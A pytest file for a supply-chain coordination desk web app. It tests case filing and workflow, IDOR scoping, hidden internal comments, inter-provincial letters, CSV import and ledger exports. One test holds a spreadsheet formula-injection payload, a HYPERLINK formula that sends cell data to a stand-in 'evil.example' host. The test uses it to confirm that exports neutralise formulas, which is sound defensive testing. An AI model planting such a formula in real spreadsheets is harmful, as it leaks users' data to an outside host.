"""The desk's REST API and pages through the real app: filing, acting, scoping (IDOR), letters, reports."""

from __future__ import annotations

import io

import pytest
from coordination.desk_support import PASSWORD, build_desk
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from chainkeeper.auth.api import login_throttle
from chainkeeper.web.app import create_app

NEW_CASE = {"category": "parts_supply", "title": "线束断供", "blocked": "停产\n库存3天", "help_wanted": "协调复产"}


@pytest.fixture
def desk(engine):
    login_throttle.reset()
    return build_desk(engine)


def client_for(desk, username: str) -> TestClient:
    client = TestClient(create_app(engine=desk.engine))
    response = client.post("/api/v1/auth/login", json={"username": username, "password": PASSWORD})
    assert response.status_code == 200, response.text
    client.headers["x-csrf-token"] = response.json()["csrf_token"]
    return client


def file(desk, client=None, **extra):
    client = client or client_for(desk, "oem")
    response = client.post("/api/v1/desk/cases", json=NEW_CASE | {"blocking_uscc": desk.usccs["kunshan"]} | extra)
    assert response.status_code == 201, response.text
    return response.json()


def test_an_enterprise_files_and_the_city_accepts_and_assigns(desk):
    case = file(desk)
    assert case["state"] == "submitted" and case["handling_region_code"] == "3205" and case["actions"] == ["escalate"]
    suzhou = client_for(desk, "suzhou")
    body = suzhou.post(f"/api/v1/desk/cases/{case['id']}/actions", json={"action": "accept"}).json()
    assert body["state"] == "accepted" and "assign" in body["actions"]
    body = suzhou.post(f"/api/v1/desk/cases/{case['id']}/actions",
                       json={"action": "assign", "liaison_id": desk.user_ids["kunshan"]}).json()
    assert body["state"] == "assigned" and body["liaison_id"] == desk.user_ids["kunshan"]
    assert [step["action"] for step in body["timeline"]] == ["submit", "accept", "assign"]


def test_refusals_have_clear_status_codes(desk):
    case = file(desk)
    oem = client_for(desk, "oem")
    assert oem.post(f"/api/v1/desk/cases/{case['id']}/actions", json={"action": "accept"}).status_code == 403
    response = oem.post(f"/api/v1/desk/cases/{case['id']}/actions", json={"action": "close"})
    assert response.status_code == 422 and response.json()["error"]["code"] == "invalid_transition"
    bad = oem.post("/api/v1/desk/cases", json=NEW_CASE | {"blocking_uscc": "91320583MA00000000"})
    assert bad.status_code == 422 and bad.json()["error"]["details"][0]["field"] == "blocking_uscc"


@pytest.mark.parametrize("username", ["supplier", "zhejiang"])
def test_other_enterprises_and_regions_get_404_on_direct_urls(desk, username):
    case = file(desk)
    other = client_for(desk, username)
    assert other.get(f"/api/v1/desk/cases/{case['id']}").status_code == 404
    assert other.post(f"/api/v1/desk/cases/{case['id']}/comments", json={"body": "x"}).status_code == 404
    assert other.get(f"/desk/cases/{case['id']}").status_code == 404
    assert case["id"] not in [c["id"] for c in other.get("/api/v1/desk/cases").json()["items"]]


def test_internal_comments_are_hidden_from_the_enterprise(desk):
    case = file(desk)
    suzhou = client_for(desk, "suzhou")
    assert suzhou.post(f"/api/v1/desk/cases/{case['id']}/comments",
                       json={"body": "内部：供应商实际已停产两周", "internal": True}).status_code == 201
    assert suzhou.post(f"/api/v1/desk/cases/{case['id']}/comments", json={"body": "已受理"}).status_code == 201
    seen = client_for(desk, "oem").get(f"/api/v1/desk/cases/{case['id']}").json()["comments"]
    assert [c["body"] for c in seen] == ["已受理"]
    oem = client_for(desk, "oem")
    assert oem.post(f"/api/v1/desk/cases/{case['id']}/comments", json={"body": "x", "internal": True}).status_code == 403


def case_in_letter(desk):
    """Jilin's client, a case it filed for Changchun and accepted, and Jilin's draft letter to Jiangsu carrying it."""
    jilin = client_for(desk, "jilin")
    case = file(desk, jilin, requester_id=desk.ids["changchun"])
    jilin.post(f"/api/v1/desk/cases/{case['id']}/actions", json={"action": "accept"})
    letter = jilin.post("/api/v1/desk/letters", json={"to_region_code": "32", "subject": "请协调",
                                                     "case_ids": [case["id"]]}).json()
    return jilin, case, letter


def test_letters_between_provinces(desk):
    jilin, case, letter = case_in_letter(desk)
    assert letter["state"] == "draft" and letter["case_ids"] == [case["id"]]
    assert jilin.post(f"/api/v1/desk/letters/{letter['id']}/actions", json={"action": "send"}).json()["state"] == "sent"
    jiangsu = client_for(desk, "jiangsu")
    replied = jiangsu.post(f"/api/v1/desk/letters/{letter['id']}/actions", json={"action": "reply", "text": "已交办"})
    assert replied.json()["state"] == "replied"
    assert client_for(desk, "zhejiang").get(f"/api/v1/desk/letters/{letter['id']}").status_code == 404


def test_a_letters_spreadsheet_is_all_or_nothing_with_row_errors(desk):
    jilin = client_for(desk, "jilin")
    letter = jilin.post("/api/v1/desk/letters", json={"to_region_code": "32", "subject": "供应商清单"}).json()
    good = f"{desk.usccs['changchun']},{desk.usccs['kunshan']},,,零部件供应,线束断供"
    bad = f"{desk.usccs['changchun']},,某高速出口,999999,物流运输,车辆无法通行"
    text = "诉求企业统一社会信用代码,堵点企业统一社会信用代码,堵点企业名称,堵点所在区县代码,问题类别,问题概述\n"
    response = jilin.post(f"/api/v1/desk/letters/{letter['id']}/import",
                          files={"file": ("清单.csv", (text + good + "\n" + bad + "\n").encode(), "text/csv")})
    assert response.status_code == 422
    details = response.json()["error"]["details"]
    assert [(d["row"], d["column"]) for d in details] == [(3, "堵点所在区县代码")]
    assert jilin.get(f"/api/v1/desk/letters/{letter['id']}").json()["case_ids"] == []
    ok = jilin.post(f"/api/v1/desk/letters/{letter['id']}/import",
                    files={"file": ("清单.csv", (text + good + "\n").encode(), "text/csv")})
    assert ok.status_code == 200 and len(ok.json()["case_ids"]) == 1


def test_daily_picture_and_ledger(desk):
    file(desk)
    ministry = client_for(desk, "ministry")
    picture = ministry.get("/api/v1/desk/daily").json()
    assert picture["totals"]["new"] == 1 and picture["totals"]["open"] == 1
    assert [t["key"] for t in picture["by_province"]] == ["32"]
    ledger = ministry.get("/api/v1/desk/ledger.xlsx")
    rows = list(load_workbook(io.BytesIO(ledger.content)).active.iter_rows(values_only=True))
    assert len(rows) == 2 and rows[1][5] == "线束断供" and rows[0][0] == "台账编号"


def test_pages_render_for_each_side(desk):
    case = file(desk)
    for username, path, needle in [("oem", "/desk", "线束断供"), ("suzhou", f"/desk/cases/{case['id']}", "受理"),
                                   ("ministry", "/desk/daily", "daily-totals"), ("jilin", "/desk/letters", "new-letter")]:
        page = client_for(desk, username).get(path)
        assert page.status_code == 200 and needle in page.text, (username, path)


def test_a_refused_bulk_assignment_changes_nothing(desk):
    first = file(desk)
    suzhou = client_for(desk, "suzhou")
    form = {"case_ids": [str(first["id"]), "999999"], "liaison_id": str(desk.user_ids["kunshan"]), "accept": "1",
            "csrf_token": suzhou.headers["x-csrf-token"]}
    response = suzhou.post("/desk/assign", data=form, follow_redirects=False)
    assert response.status_code == 303 and "error=" in response.headers["location"]
    assert suzhou.get(f"/api/v1/desk/cases/{first['id']}").json()["state"] == "submitted"  # the first was rolled back
    form["case_ids"] = [str(first["id"])]
    assert "error=" not in suzhou.post("/desk/assign", data=form, follow_redirects=False).headers["location"]
    assert suzhou.get(f"/api/v1/desk/cases/{first['id']}").json()["state"] == "assigned"


@pytest.mark.parametrize("language, heading", [("en", "Below 90% on day"), ("zh_CN", "第几天低于 90%")])
def test_the_impact_panel_in_both_languages(desk, language, heading):
    case = file(desk, blocking_uscc=desk.usccs["wuxi"])  # Kunshan's only chip supplier (the OEM has two seat makers)
    suzhou = client_for(desk, "jiangsu")
    impact = suzhou.post(f"/api/v1/desk/cases/{case['id']}/impact").json()["impact"]
    assert impact["n_affected"] >= 1 and impact["firms"][0]["name"] == "昆山线束有限公司"
    suzhou.cookies.set("ck_lang", language)
    page = suzhou.get(f"/desk/cases/{case['id']}")
    assert page.status_code == 200 and heading in page.text and "昆山线束有限公司" in page.text


def test_ledger_export_neutralises_formulas(desk):
    """Issue 10 #4: a case title that looks like a formula stays text in the ledger workbook."""
    evil = '=HYPERLINK("http://evil.example/?d="&A2,"click")'
    file(desk, title=evil, help_wanted="@SUM(1+1)")
    ledger = client_for(desk, "ministry").get("/api/v1/desk/ledger.xlsx")
    cells = [cell for row in load_workbook(io.BytesIO(ledger.content)).active.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert "'" + evil in [cell.value for cell in cells]


def test_duplicates_show_only_cases_the_caller_may_read(desk):
    """Issue 10 #10: an enterprise never learns another enterprise's case id through ``duplicates``."""
    mine = file(desk, blocking_uscc=desk.usccs["wuxi"])
    theirs = file(desk, client_for(desk, "supplier"), blocking_uscc=desk.usccs["wuxi"])
    assert client_for(desk, "oem").get(f"/api/v1/desk/cases/{mine['id']}").json()["duplicates"] == []
    assert client_for(desk, "supplier").get(f"/api/v1/desk/cases/{theirs['id']}").json()["duplicates"] == []
    assert client_for(desk, "jiangsu").get(f"/api/v1/desk/cases/{mine['id']}").json()["duplicates"] == [theirs["id"]]
